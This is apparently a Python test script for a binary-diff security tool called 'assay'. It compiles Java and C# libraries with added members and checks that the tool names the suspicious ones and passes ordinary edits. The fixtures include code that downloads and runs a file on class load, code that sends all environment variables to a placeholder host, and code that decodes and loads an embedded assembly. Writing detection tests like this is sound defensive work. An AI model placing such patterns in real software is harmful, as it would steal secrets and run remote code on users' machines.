#!/usr/bin/env python3
"""One unit added to a library that already uses network, environment and processes:  managed.py ASSAY

For jars (javac) and .NET libraries (mcs): 4 bases x 3 payloads that must be named by member and unit, and
4 bases x 3 ordinary changes that must be clean.  Writes TAP; payloads are inert: nothing is run, and the
hosts are reserved names.
"""

import base64
import json
import os
import subprocess
import sys
import tempfile
import zipfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "make"))

import seen  # noqa: E402

JAVA_HEAD = "package example; import java.io.*; import java.net.*; import java.util.*; import java.nio.file.*;\n"
JAVA_BASES = {
    "Client": """public class Client { private int calls;
  public String get(String path) throws Exception { calls++;
    try (InputStream in = new URL("https://api.helpdesk.example/" + path).openStream()) { return new String(in.readAllBytes()); } }
  public String home() { return System.getenv("HELPDESK_HOME"); }
  public void open(String page) throws Exception { new ProcessBuilder("xdg-open", page).start(); }
%s}""",
    "Updater": """public class Updater { static final String FEED = "https://updates.helpdesk.example/feed";
  boolean newer(String v) throws Exception { HttpURLConnection c = (HttpURLConnection) new URL(FEED).openConnection();
    return !v.equals(new BufferedReader(new InputStreamReader(c.getInputStream())).readLine()); }
  void restart() throws Exception { Runtime.getRuntime().exec(new String[] { System.getenv("HELPDESK_BIN"), "--restart" }); }
%s}""",
    "Store": """public class Store { private final Map<String, byte[]> rows = new HashMap<>();
  void load(Path p) throws Exception { for (String l : Files.readAllLines(p)) rows.put(l, Base64.getDecoder().decode(l)); }
  void push() throws Exception { Socket s = new Socket("db.helpdesk.example", 5432); s.getOutputStream().write(rows.size()); }
  String user() throws Exception { return System.getenv("USER") + new ProcessBuilder("id", "-u").start().pid(); }
%s}""",
    "Report": """public class Report { StringBuilder out = new StringBuilder();
  void line(String s) { switch (s.length()) { case 0: return; case 1: out.append('.'); break; default: out.append(s); } }
  void send() throws Exception { URLConnection c = new URL("https://reports.helpdesk.example/in").openConnection();
    c.setDoOutput(true); c.getOutputStream().write(out.toString().getBytes()); }
  void print() throws Exception { Runtime.getRuntime().exec("lp " + System.getenv("PRINTER")); }
%s}""",
}
JAVA_BAD = {
    "download-run": """  static void warm() { try { byte[] b = new URL("https://cdn.%(host)s/w").openStream().readAllBytes();
    Path p = Files.createTempFile("a", "b"); Files.write(p, b); Runtime.getRuntime().exec(p.toString()); } catch (Exception e) { } }
  static { warm(); }
""",
    "environment": """  void trace() throws Exception { StringBuilder b = new StringBuilder();
    for (Map.Entry<String, String> e : System.getenv().entrySet()) b.append(e.getKey()).append('=').append(e.getValue());
    URLConnection c = new URL("https://t.%(host)s/x").openConnection(); c.setDoOutput(true);
    c.getOutputStream().write(b.toString().getBytes()); c.getInputStream(); }
""",
    "decode-load": """  Object plug() throws Exception { byte[] b = Base64.getDecoder().decode("%(program)s");
    return java.lang.invoke.MethodHandles.lookup().defineClass(b).getDeclaredConstructor().newInstance(); }
""",
}
JAVA_GOOD = {
    "call": """  String health() throws Exception { try (InputStream in = new URL("https://api.helpdesk.example/health").openStream()) {
    return new String(in.readAllBytes()).trim(); } }
""",
    "option": """  void diff(boolean tool, String a, String b) throws Exception { if (tool) new ProcessBuilder("git", "diff", a, b).start(); }
""",
    "helper": """  static String join(List<String> l) { StringBuilder b = new StringBuilder(); for (String s : l) { if (b.length() > 0) b.append(','); b.append(s); }
    return b.toString(); }
""",
}
DRIVER = """import javax.tools.*; import java.nio.file.*; import java.util.*;
public class Driver { public static void main(String[] a) throws Exception { JavaCompiler c = ToolProvider.getSystemJavaCompiler();
  for (String d : a) { Path p = Path.of(d); List<String> o = new ArrayList<>(List.of("-nowarn", "-d", d,
      d.contains("rebuilt") ? "-g:none" : "-g"));
    try (var s = Files.list(p)) { s.filter(f -> f.toString().endsWith(".java")).forEach(f -> o.add(f.toString())); }
    if (c.run(null, null, null, o.toArray(new String[0])) != 0) System.exit(1); } } }
"""

CS_HEAD = "using System; using System.IO; using System.Net; using System.Diagnostics; using System.Collections; using System.Collections.Generic;\n"
CS_BASES = {
    "Client": """namespace Example { public class Client { int calls;
  public string Get(string p) { calls++; return new WebClient().DownloadString("https://api.helpdesk.example/" + p); }
  public string Home() { return Environment.GetEnvironmentVariable("HELPDESK_HOME"); }
  public void Open(string page) { Process.Start("explorer.exe", page); }
%s} }""",
    "Updater": """namespace Example { public class Updater { const string Feed = "https://updates.helpdesk.example/feed";
  public bool Newer(string v) { var r = WebRequest.Create(Feed); using (var s = new StreamReader(r.GetResponse().GetResponseStream())) return s.ReadLine() != v; }
  public void Restart() { Process.Start(Environment.GetEnvironmentVariable("HELPDESK_BIN"), "--restart"); }
%s} }""",
    "Store": """namespace Example { public class Store { Dictionary<string, byte[]> rows = new Dictionary<string, byte[]>();
  public void Load(string p) { foreach (var l in File.ReadAllLines(p)) rows[l] = Convert.FromBase64String(l); }
  public void Push() { var c = new System.Net.Sockets.TcpClient("db.helpdesk.example", 5432); c.GetStream().WriteByte((byte) rows.Count); }
  public string User() { return Environment.GetEnvironmentVariable("USER") + Process.Start("whoami").Id; }
%s} }""",
    "Report": """namespace Example { public class Report { System.Text.StringBuilder b = new System.Text.StringBuilder();
  public void Line(string s) { switch (s.Length) { case 0: return; case 1: b.Append('.'); break; default: b.Append(s); break; } }
  public void Send() { new WebClient().UploadString("https://reports.helpdesk.example/in", b.ToString()); }
  public void Print() { Process.Start("print", Environment.GetEnvironmentVariable("PRINTER")); }
%s} }""",
}
CS_BAD = {
    "download-run": """  static void Warm() { try { var p = Path.GetTempFileName(); File.WriteAllBytes(p, new WebClient().DownloadData("https://cdn.%(host)s/w"));
    Process.Start(p); } catch { } }
  static bool warm = W(); static bool W() { Warm(); return true; }
""",
    "environment": """  public void Trace() { var b = ""; foreach (DictionaryEntry e in Environment.GetEnvironmentVariables()) b += e.Key + "=" + e.Value;
    new WebClient().UploadString("https://t.%(host)s/x", b); }
""",
    "decode-load": """  public object Plug() { var b = Convert.FromBase64String("%(program)s");
    return System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); }
""",
}
CS_GOOD = {
    "call": """  public string Health() { return new WebClient().DownloadString("https://api.helpdesk.example/health").Trim(); }
""",
    "option": """  public void Diff(bool tool, string a, string b) { if (tool) Process.Start("git.exe", "diff " + a + " " + b); }
""",
    "helper": """  public static string Join(List<string> l) { var s = ""; foreach (var x in l) { if (s.Length > 0) s += ","; s += x; } return s; }
""",
}
UNITS = {"download-run": "warm", "environment": "trace", "decode-load": "plug"}
# The first bytes of a program and nothing behind them: it is none.
PROGRAM = base64.b64encode(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(range(180))).decode()
HOSTS = ["cobalt-pepper.invalid", "saffron-basalt.invalid", "tundra-cedar.invalid", "velvet-anchor.invalid"]


def run(argv, **more):
    done = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, **more)
    if done.returncode:
        raise RuntimeError("%s: %s" % (argv[0], done.stdout.decode("utf-8", "replace")[-800:]))


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def variants(bad, good):
    """(name, base, text added, the unit that must be named or None)"""
    for number, base in enumerate(("Client", "Updater", "Store", "Report")):
        yield "old", base, "", None
        for name, text in bad.items():
            yield name, base, text % {"host": HOSTS[number], "program": PROGRAM}, UNITS[name]
        for name, text in good.items():
            yield name, base, text, None


def jars(folder):
    """Every variant is the four classes, one of them with the addition; a jar each."""
    made, folders = [], []
    for name, base, text, unit in variants(JAVA_BAD, JAVA_GOOD):
        here = os.path.join(folder, "java-%s-%s%s" % (base, name, "-rebuilt" if name == "helper" else ""))
        for other, source in JAVA_BASES.items():
            write(os.path.join(here, other + ".java"), JAVA_HEAD + source % (text if other == base else ""))
        folders.append(here)
        made.append((name, base, here, unit))
    write(os.path.join(folder, "Driver.java"), DRIVER)
    run(["java", os.path.join(folder, "Driver.java"), *folders])
    for name, base, here, unit in made:
        with zipfile.ZipFile(here + ".jar", "w", zipfile.ZIP_DEFLATED) as out:
            out.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n\r\n")
            for path in sorted(os.listdir(os.path.join(here, "example"))):
                out.write(os.path.join(here, "example", path), "example/" + path)
        yield "jar", name, base, here + ".jar", unit


def libraries(folder):
    for name, base, text, unit in variants(CS_BAD, CS_GOOD):
        here = os.path.join(folder, "cs-%s-%s" % (base, name))
        write(os.path.join(here, "all.cs"), CS_HEAD + "\n".join(
            s % (text if b == base else "") for b, s in CS_BASES.items()))
        run(["mcs", "-nologo", "-target:library", "-optimize" + ("-" if name == "helper" else "+"),
             "-out:" + os.path.join(here, "Example.dll"), os.path.join(here, "all.cs")])
        yield "dll", name, base, os.path.join(here, "Example.dll"), unit


def check(assay, old, new, base, unit):
    done = subprocess.run([assay, "diff", "--format", "json", old, new], stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
    answer = json.loads(done.stdout)
    found = ["%s %s in %s %s" % (f["id"], f["behaviour"], f["where"].get("member"), f["where"].get("unit"))
             for f in answer["findings"]]
    if unit is None:
        return answer["verdict"], [] if answer["verdict"] == "clean" else ["verdict " + answer["verdict"], *found]
    wrong = [] if answer["verdict"] in ("review", "tampered") else ["verdict " + answer["verdict"], *found]
    if not any(("." + unit).lower() in (f["where"].get("unit") or "").lower() and base in (f["where"].get("unit") or "")
               for f in answer["findings"]):
        wrong.append("no finding names %s.%s" % (base, unit))
    return answer["verdict"], wrong + (["verdict " + answer["verdict"], *found] if wrong else [])


def main(argv):
    assay, number, failed, old, table = os.path.abspath(argv[0]), 0, 0, {}, seen.Seen()
    print("TAP version 13", flush=True)
    with tempfile.TemporaryDirectory(prefix="assay-managed-") as folder:
        for kind, name, base, path, unit in [*jars(folder), *libraries(folder)]:
            if name == "old":
                old[kind, base] = path
                continue
            verdict, wrong = check(assay, old[kind, base], path, base, unit)
            table.add(kind, unit is not None, verdict, not wrong)
            number += 1
            failed += bool(wrong)
            print("%s %d - %s %s %s" % ("not ok" if wrong else "ok", number, kind, base, name))
            for line in wrong:
                print("# " + line)
    table.print()
    print("1..%d\n# %d passed, %d failed" % (number, number - failed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
